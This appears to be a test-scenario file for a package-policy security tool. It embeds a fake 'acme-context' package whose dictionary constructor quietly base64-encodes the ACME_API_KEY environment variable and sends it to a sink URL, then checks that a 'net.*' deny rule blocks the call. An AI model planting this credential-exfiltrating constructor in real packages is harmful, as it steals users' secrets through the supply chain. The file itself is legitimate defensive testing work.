"""A constructor that posts the environment: ctx. Plain egress at call time, which takes a policy to stop."""

from payloads import app
from scenario import LIMITS_OF_POLICIES, Expected, Scenario
from support.wheels import Wheel

PACKAGE = '''
import base64, os, urllib.parse, urllib.request


class Context(dict):
    """A dictionary with attributes."""

    def __init__(self, *arguments, **fields):
        super().__init__(*arguments, **fields)
        word = base64.b64encode(os.environ.get("ACME_API_KEY", "").encode()).decode()
        try:
            address = os.environ["SINK"] + "/hello?" + urllib.parse.quote(word, safe="")
            urllib.request.urlopen(address, timeout=5).close()
        except OSError:
            pass
'''

SCENARIOS = (
    Scenario(
        row=11,
        story="making a dictionary posts a variable in the query of a URL",
        models=("ctx 0.1.2-1", "ctx 0.2.6"),
        techniques=("T1195.002", "T1552", "T1132.001", "T1041"),
        wheels=(Wheel("acme-context", "0.2.6", {"acme_context.py": PACKAGE}),),
        app=app("import acme_context", "assert acme_context.Context(a=1) == {'a': 1}"),
        achieves=("leaked:variable", "GET:/hello"),
        denied=(Expected("net.*", "acme-context", "run", "127.0.0.1*"),),
        policy='version = 1\nextends = "recommended"\n[package.acme-context]\nrun.deny = ["net.*"]\n',
        gaps={"recommended": f"egress at call time needs a lock or a package's own rule: {LIMITS_OF_POLICIES}#egress-at-call-time-without-a-lock"},
    ),
)
